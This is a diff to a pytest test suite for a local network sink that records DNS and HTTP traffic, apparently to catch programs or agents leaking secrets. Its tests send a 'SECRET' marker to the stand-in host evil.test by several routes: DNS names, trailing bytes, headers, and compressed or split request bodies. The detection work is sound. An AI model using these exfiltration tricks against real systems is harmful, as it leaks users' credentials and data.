@@ -2,8 +2,10 @@
 
 import asyncio
 import contextlib
+import gzip
 import socket
 import struct
+import zlib
 from typing import Any
 
 import httpx2
@@ -12,6 +14,7 @@ import pytest
 from agent_litmus.records.effect import Channel, Effect, Outcome
 from agent_litmus.records.probe import Environment
 from agent_litmus.services import httpd, sink
+from agent_litmus.services.outbound import Inspect
 from agent_litmus.testing.local import LocalSession, local_session
 
 pytestmark = [pytest.mark.integration, pytest.mark.anyio]
@@ -110,7 +113,15 @@ async def test_a_tls_hello_is_recorded_as_bytes_and_the_connection_closed() -> N
         writer.close()
     effect = only(session.sink.effects)
     assert (effect.channel, effect.action, effect.outcome) == (Channel.HTTP, "bytes", Outcome.EXECUTED)
-    assert effect.detail == {"host": "127.0.0.1", "port": port, "size": 10, "head": "\x16\x03\x01\x00\x05hello"}
+    assert effect.detail == {
+        "host": "127.0.0.1",
+        "resolved": "127.0.0.1",
+        "port": port,
+        "size": 10,
+        "head": "\x16\x03\x01\x00\x05hello",
+        "carries": [],
+        "clipped": False,
+    }
 
 
 @pytest.mark.parametrize(
@@ -217,7 +228,13 @@ async def test_every_name_has_one_address_of_its_own() -> None:
     addresses = [".".join(map(str, answer[-4:])) for answer in answers]
     assert addresses == ["198.18.0.1", "198.18.0.2", "198.18.0.1"]
     details = [effect.detail for effect in session.sink.effects]
-    assert details[0] == {"name": "a.test", "type": "A"}
+    assert details[0] == {
+        "name": "a.test",
+        "type": "A",
+        "address": "198.18.0.1",
+        "carries": [],
+        "clipped": False,
+    }
     assert details[2]["name"] == "A.test"
 
 
@@ -229,10 +246,150 @@ async def test_other_record_types_are_empty_without_error(kind: int, name: str) 
     assert only(session.sink.effects).detail["type"] == name
 
 
-async def test_malformed_packets_are_ignored() -> None:
+async def test_malformed_packets_are_recorded_and_not_answered() -> None:
+    packets = (b"", b"x", b"\0" * 12, query("a.test")[:-3], b"\xff" * 5000)
     async with local_session() as session:
         with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
-            for packet in (b"", b"x", b"\0" * 12, query("a.test")[:-3], b"\xff" * 600):
+            for packet in packets:
                 client.sendto(packet, session.dns_address)
         await resolve(session, query("fine.test"))
-    assert only(session.sink.effects).detail["name"] == "fine.test"
+    *raw, last = session.sink.effects
+    assert last.detail["name"] == "fine.test"
+    assert {(effect.channel, effect.action, effect.outcome) for effect in raw} == {
+        (Channel.DNS, "bytes", Outcome.EXECUTED)
+    }
+    assert [effect.detail["size"] for effect in raw] == [len(packet) for packet in packets]
+    assert [effect.detail["clipped"] for effect in raw] == [False] * 4 + [True]
+    assert raw[1].detail == {"port": 53, "size": 1, "head": "x", "carries": [], "clipped": False}
+
+
+async def test_what_follows_a_query_is_recorded_besides_it() -> None:
+    async with local_session(inspect=seen("SECRET")) as session:
+        await resolve(session, query("a.test") + b"my SECRET")
+    resolved, raw = sorted(session.sink.effects, key=lambda effect: effect.action, reverse=True)
+    assert (resolved.action, resolved.detail["carries"]) == ("resolve", [])
+    assert (raw.action, raw.detail["carries"]) == ("bytes", ["SECRET"])
+    assert raw.detail["head"].endswith("my SECRET")
+
+
+async def test_the_empty_option_record_of_a_resolver_is_nothing_besides_the_query() -> None:
+    packet = bytearray(query("a.test") + b"\0\0\x29\x04\xd0\0\0\0\0\0\0")
+    packet[11] = 1
+    async with local_session() as session:
+        await resolve(session, bytes(packet))
+    assert only(session.sink.effects).action == "resolve"
+
+
+async def test_a_secret_in_a_name_is_found() -> None:
+    async with local_session(inspect=seen("secret")) as session:
+        await resolve(session, query("secret.evil.test"))
+    assert only(session.sink.effects).detail["carries"] == ["secret"]
+
+
+def seen(*names: str) -> Inspect:
+    return lambda text: {name for name in names if name in text}
+
+
+BIG = b"a" * 3_000_000
+
+
+@pytest.mark.parametrize(
+    ("path", "headers", "body"),
+    [
+        ("/?k=SECRET", {}, b""),
+        ("/", {"x-key": "SECRET"}, b""),
+        ("/", {}, BIG + b"SECRET" + BIG),
+        ("/", {}, BIG * 12 + b"SECRET"),
+        ("/", {"content-encoding": "gzip"}, gzip.compress(BIG + b"SECRET")),
+        ("/", {"content-encoding": "deflate"}, zlib.compress(b"SECRET")),
+        ("/", {"content-encoding": "deflate"}, zlib.compress(b"SECRET", wbits=-15)),
+        ("/", {"content-encoding": "deflate, gzip"}, gzip.compress(zlib.compress(b"SECRET"))),
+        ("/", {}, gzip.compress(b"x") + gzip.compress(b"SECRET")),
+    ],
+)
+async def test_a_secret_anywhere_in_a_request_is_found(path: str, headers: dict[str, str], body: bytes) -> None:
+    async with local_session(environment=WORLD, inspect=seen("SECRET", "a", "never")) as session:
+        await fetch(session, path, "POST", content=body, headers={"host": "evil.test", **headers})
+    detail = only(session.sink.effects).detail
+    assert detail["carries"] == sorted({"SECRET", "a"})
+    assert detail["clipped"] is (len(body) > 65536)
+
+
+async def test_a_body_that_inflates_without_end_is_clipped() -> None:
+    body = gzip.compress(bytes(100 << 20))
+    async with local_session(environment=WORLD, inspect=seen("SECRET")) as session:
+        await fetch(session, "/", "POST", content=body, headers={"host": "evil.test", "content-encoding": "gzip"})
+    assert only(session.sink.effects).detail["clipped"] is True
+
+
+async def test_a_secret_in_raw_bytes_is_found_beyond_what_is_kept() -> None:
+    async with local_session(environment=WORLD, inspect=seen("SECRET")) as session:
+        await speak(session, b"\x00" + b"a" * 200_000 + b"SECRET" + b"b" * 200_000)
+    detail = only(session.sink.effects).detail
+    assert (detail["carries"], detail["clipped"]) == (["SECRET"], True)
+    assert "SECRET" not in detail["head"]
+
+
+@pytest.mark.parametrize("rest", [b"POST /x HTTP/1.1\r\nx-key: SECRET", b"\x00SECRET", b"GET / SECRET\r\n\r\n"])
+@pytest.mark.parametrize("together", [True, False])
+async def test_what_follows_a_request_and_is_none_is_recorded(rest: bytes, together: bool) -> None:
+    first = b"GET /one HTTP/1.1\r\nhost: evil.test\r\n\r\n"
+    async with local_session(environment=WORLD, inspect=seen("SECRET")) as session:
+        reader, writer = await asyncio.open_connection(*session.listeners.http[0].getsockname())
+        writer.write(first + (rest if together else b""))
+        await reader.readuntil(b"ok\n")
+        writer.write(b"" if together else rest)
+        writer.close()
+        await writer.wait_closed()
+    request, raw = session.sink.effects
+    assert (request.action, request.detail["path"], request.detail["carries"]) == ("request", "/one", [])
+    assert (raw.action, raw.detail["size"], raw.detail["carries"]) == ("bytes", len(rest), ["SECRET"])
+
+
+async def test_a_second_request_left_open_is_recorded_at_the_sessions_end() -> None:
+    async with local_session(environment=WORLD) as session:
+        reader, writer = await asyncio.open_connection(*session.listeners.http[0].getsockname())
+        writer.write(b"GET /one HTTP/1.1\r\nhost: evil.test\r\n\r\n")
+        await reader.readuntil(b"ok\n")
+        writer.write(b"POST /two HTTP/1.1\r\nx-key: SECRET")
+    assert [effect.action for effect in session.sink.effects] == ["request", "bytes"]
+    assert session.sink.effects[1].detail["head"] == "POST /two HTTP/1.1\r\nx-key: SECRET"
+    writer.close()
+
+
+async def test_two_whole_requests_on_one_connection_are_two_requests_and_no_bytes() -> None:
+    request = b"POST /%d HTTP/1.1\r\nhost: evil.test\r\ncontent-length: 3\r\n\r\nabc"
+    async with local_session(environment=WORLD) as session:
+        await speak(session, request % 1 + request.replace(b"host", b"connection: close\r\nhost") % 2)
+    assert [(e.action, e.detail["path"]) for e in session.sink.effects] == [("request", "/1"), ("request", "/2")]
+
+
+async def test_hosts_are_lower_case_without_login_port_or_final_dot() -> None:
+    async with local_session(environment=WORLD) as session:
+        await fetch(session, "/", headers={"host": "ME:pw@Evil.Test.:80"})
+    detail = only(session.sink.effects).detail
+    assert (detail["host"], detail["resolved"]) == ("evil.test", "127.0.0.1")
+
+
+async def test_the_name_an_address_was_given_out_for_stands_besides_the_one_claimed() -> None:
+    async with local_session(environment=WORLD) as session:
+        await resolve(session, query("Evil.Test"))
+        receiver = {"type": "http.request", "body": b"", "more_body": False}
+        scope = {
+            "type": "http",
+            "method": "GET",
+            "server": ("198.18.0.1", 80),
+            "headers": [(b"host", b"innocent.test")],
+            "raw_path": b"/",
+            "query_string": b"",
+        }
+
+        async def receive() -> Any:
+            return receiver
+
+        async def send(_: Any) -> None:
+            return
+
+        await session.sink.app(scope, receive, send)
+    detail = session.sink.effects[-1].detail
+    assert (detail["host"], detail["resolved"]) == ("innocent.test", "evil.test")
